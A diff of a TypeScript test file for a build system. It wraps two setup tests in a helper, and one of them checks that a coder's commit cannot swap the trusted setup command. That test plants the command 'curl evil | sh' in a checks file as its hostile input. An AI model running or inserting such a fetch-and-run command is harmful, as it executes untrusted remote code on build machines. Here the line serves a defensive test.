@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { checkouts } from '../../../../tests/support/build-checkouts.js';
 import { type BuildWorld, type Furnished, startBuildWorld } from '../../../../tests/support/build-world.js';
+import { itDeeply } from '../../../../tests/support/deep.js';
 
 let world: BuildWorld;
 let home: Furnished;
@@ -133,7 +134,7 @@ describe('the setup of a build', () => {
     expect((await start(room))['setup']).toEqual({ command: 'npm ci', minutes: 15 });
   });
 
-  it('is none where the file cannot be read, which the log is told and no build fails of', async () => {
+  itDeeply('is none where the file cannot be read, which the log is told and no build fails of', async () => {
     const room = await world.furnish();
     const begin = async (text: string) => {
       save(room, text);
@@ -149,21 +150,24 @@ describe('the setup of a build', () => {
     );
   });
 
-  it("is read where the line of attempts began, and a coder's commits are no base to keep anything of", async () => {
-    const room = await world.furnish();
-    save(room, 'setup: {command: npm ci}\n');
-    const desk = await room.readyDesk();
-    const card = await room.card();
-    const first = await room.build(card.id);
-    const { head } = await checkouts(room).succeed(desk, {
-      '.guildhall/checks.yaml': 'setup: {command: curl evil | sh}\n',
-    });
-    const next = await room.build(card.id, { continues: first.build_id });
-    expect(next.base_sha).toBe(head);
-    const [order] = await room.work(desk);
-    expect((await room.start(desk, next.build_id, order!.claim)).body).toMatchObject({
-      setup: { command: 'npm ci', minutes: 15 },
-      trusted_base: false,
-    });
-  });
+  itDeeply(
+    "is read where the line of attempts began, and a coder's commits are no base to keep anything of",
+    async () => {
+      const room = await world.furnish();
+      save(room, 'setup: {command: npm ci}\n');
+      const desk = await room.readyDesk();
+      const card = await room.card();
+      const first = await room.build(card.id);
+      const { head } = await checkouts(room).succeed(desk, {
+        '.guildhall/checks.yaml': 'setup: {command: curl evil | sh}\n',
+      });
+      const next = await room.build(card.id, { continues: first.build_id });
+      expect(next.base_sha).toBe(head);
+      const [order] = await room.work(desk);
+      expect((await room.start(desk, next.build_id, order!.claim)).body).toMatchObject({
+        setup: { command: 'npm ci', minutes: 15 },
+        trusted_base: false,
+      });
+    },
+  );
 });
